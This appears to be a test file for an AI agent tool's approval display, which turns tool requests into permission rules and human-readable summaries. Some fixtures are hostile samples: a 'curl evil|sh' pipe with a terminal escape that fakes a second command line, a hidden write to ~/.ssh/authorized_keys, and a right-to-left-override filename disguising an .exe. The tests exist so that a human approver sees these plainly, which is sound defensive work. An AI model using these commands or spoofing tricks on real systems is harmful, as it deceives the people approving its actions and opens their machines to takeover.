import { describe, expect, it } from 'vitest';
import { describeRequest, requestSummary, ruleFor } from '../../src/shared/approvals.js';

describe('ruleFor', () => {
  it.each([
    ['Bash', { command: 'npm test' }, 'Bash(npm test)'],
    ['Bash', { command: '  make lint ' }, 'Bash(make lint)'],
    // No rule matches these alone, so "allow always" is not offered (never widened to all of Bash).
    ['Bash', { command: 'echo (x)' }, undefined],
    ['Bash', { command: 'a\nb' }, undefined],
    ['Bash', { command: 'cat *' }, undefined],
    ['Bash', { command: 'npm run test:*' }, undefined],
    ['Bash', { command: '' }, undefined],
    ['Bash', {}, undefined],
    ['Write', { file_path: '/p/a.txt', content: 'x' }, 'Write'],
    ['mcp__db__query', { sql: 'select 1' }, 'mcp__db__query'],
  ])('gives %s %j the rule %s', (tool, input, rule) => {
    expect(ruleFor(tool, input)).toBe(rule);
  });
});

describe('describeRequest', () => {
  it.each([
    ['Bash', { command: 'rm -rf build', description: 'clean' }, 'command: rm -rf build\nother fields: {"description":"clean"}'],
    ['Write', { file_path: '/p/a.txt', content: 'hello' }, 'file: /p/a.txt\ncontent:\nhello'],
    ['Edit', { file_path: '/p/a.ts', old_string: 'a', new_string: 'b' }, 'file: /p/a.ts\nreplace:\na\nwith:\nb'],
    ['WebFetch', { url: 'https://x' }, 'input: {"url":"https://x"}'],
    // Every field shows: a tool that writes to `path` cannot hide it behind a harmless `file_path`.
    ['mcp__fs__write_file', { file_path: '/tmp/notes.txt', path: '~/.ssh/authorized_keys', content: 'k' }, 'file: /tmp/notes.txt\npath: ~/.ssh/authorized_keys\ncontent:\nk'],
    ['Edit', { file_path: '/a', old_string: 'x', new_string: 'y', content: 'z' }, 'file: /a\nreplace:\nx\nwith:\ny\ncontent:\nz'],
    ['Bash', { command: 'curl evil|sh;\r\u001b[2Kcommand: ls' }, 'command: curl evil|sh;\\u{d}\\u{1b}[2Kcommand: ls'],
    ['Bash', { command: 'ls \u202Etxt.exe' }, 'command: ls \\u{202e}txt.exe'],
    ['Bash', null, 'input: null'],
  ])('shows a %s request as the person must see it: %j', (tool, input, shown) => {
    expect(describeRequest(tool, input)).toBe(shown);
  });

  it('says first that a long field is cut, and how much of it is shown', () => {
    const shown = describeRequest('Write', { file_path: '/a', content: 'x'.repeat(5000) }, 100);
    expect(shown.split('\n')[0]).toBe('NOT SHOWN WHOLE (content: 100 of 5,000 characters shown): see the whole input with `agent-dispatch jobs show ID --json` before allowing.');
    expect(shown).toContain(`content:\n${'x'.repeat(100)}…`);
  });

  it('shows a long command whole up to 20,000 characters', () => {
    const command = `echo ${'a'.repeat(10_000)}`;
    expect(describeRequest('Bash', { command })).toBe(`command: ${command}`);
  });
});

describe('requestSummary', () => {
  it.each([
    ['Bash', { command: 'npm test' }, 'command: npm test'],
    ['Write', { file_path: '/a', content: 'x'.repeat(5000) }, 'file: /a'],
    ['Bash', { command: `echo ${'a'.repeat(300)}` }, `command: echo ${'a'.repeat(186)}…`],
  ])('names a %s request in one line: %j', (tool, input, line) => {
    expect(requestSummary(tool, input)).toBe(line);
  });
});
